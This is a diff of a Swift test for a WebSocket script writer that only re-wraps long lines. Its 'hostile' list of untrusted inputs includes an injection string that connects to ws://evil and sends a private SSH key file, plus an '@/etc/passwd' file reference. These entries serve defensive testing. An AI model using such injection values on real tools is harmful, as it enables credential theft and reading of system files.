@@ -9,11 +9,15 @@ import WebSocketProtocol
     /// Text that a server, or whoever made a recording, may have chosen.
     static let hostile = [
         "x\nconnect ws://evil\n>file /home/me/.ssh/id_ed25519\n#", "\n> a", "\r\n> a", "\r> a", "a\n", "\n", "${HOME}",
-        "$${HOME}", "$$${", "$", "${", "a$", "${\u{301}A}", "$\u{301}{A}", " a", "a ", "\ta", "a\t", "  # comment", "a  # b",
+        "$${HOME}", "$$${", "$", "${", "a$", "${\u{301}A}", "$\u{301}{A}", " a", "a ", "\ta", "a\t", "  # comment",
+        "a  # b",
         "\"a  # b\"", "\"a  # b", "a\t#", "#", "# a", "== name", "@bob > a", "/ pong", "\0", "\u{1B}[2J", "\u{9B}2J",
-        "\u{7F}", "\u{85}", "\u{2028}> a", "\u{2029}> a", "\u{202E}abc", "\u{2066}a", "\u{200B}", "a\u{200D}b", "\u{FEFF}a",
-        "\u{AD}", "\u{A0}", "\u{3000}a", "\u{301}", " \u{301}", "\u{301}  # b", "e\u{301}", "é", "\\", "\\n", "\"", "\"\"",
-        "\"\u{301}", "'", "👩‍🚀", "❤️", "\u{E0041}", "\u{10FFFF}", "\u{FFFE}", "", "a" + String(repeating: "\u{301}", count: 50),
+        "\u{7F}", "\u{85}", "\u{2028}> a", "\u{2029}> a", "\u{202E}abc", "\u{2066}a", "\u{200B}", "a\u{200D}b",
+        "\u{FEFF}a",
+        "\u{AD}", "\u{A0}", "\u{3000}a", "\u{301}", " \u{301}", "\u{301}  # b", "e\u{301}", "é", "\\", "\\n", "\"",
+        "\"\"",
+        "\"\u{301}", "'", "👩‍🚀", "❤️", "\u{E0041}", "\u{10FFFF}", "\u{FFFE}", "",
+        "a" + String(repeating: "\u{301}", count: 50),
         "~(a", "{\"a\":1}", "{", "[1]", "*", "<json {}", "string \"a\"", "1000", "300ms", "json", "-", "@/etc/passwd",
     ]
 
@@ -79,11 +83,13 @@ import WebSocketProtocol
             (.timeout(.milliseconds(300)), "timeout 300ms"), (.wait(.seconds(2)), "wait 2000ms"),
             (.expectSilence(.microseconds(1500)), "<! 0.0015s"), (.expectPong(within: nil), "pong"),
             (.expectPong(within: .seconds(1)), "pong 1000ms"), (.expectClose(nil, reason: nil), "<close"),
-            (.close(.normalClosure, reason: Template(literal: "")), "close 1000"), (.option(.insecure, nil), "insecure"),
+            (.close(.normalClosure, reason: Template(literal: "")), "close 1000"),
+            (.option(.insecure, nil), "insecure"),
         ]
         for (step, line) in rows { #expect(try ScriptWriter.line(step) == line) }
         let unwritable: [Step] = [
-            .close(CloseCode(rawValue: 1005), reason: Template(literal: "")), .option(.insecure, Template(literal: "a")),
+            .close(CloseCode(rawValue: 1005), reason: Template(literal: "")),
+            .option(.insecure, Template(literal: "a")),
             .option(.header, nil), .connect(Template(literal: "")), .connect(Template(literal: "ws://h/\n> a")),
             .timeout(.seconds(-1)), .send(.text(Template(literal: String(repeating: "a", count: 5 << 20)))),
         ]
